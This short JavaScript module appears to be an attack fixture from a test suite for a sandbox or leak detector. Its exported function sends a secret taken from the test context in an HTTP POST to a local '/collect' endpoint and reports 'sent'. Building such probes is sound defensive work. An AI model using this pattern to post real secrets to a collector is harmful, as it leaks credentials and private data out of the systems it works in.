// POSTs the secret with http.request.
import http from 'node:http';
export const meta = { kind: 'network', evidence: 'tcp' };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: '127.0.0.1', port: ctx.tcpPort, method: 'POST', path: '/collect' });
    req.on('error', reject);
    req.end(ctx.secret);
    req.on('finish', () => setTimeout(() => { req.destroy(); resolve('sent'); }, 150));
  });
}
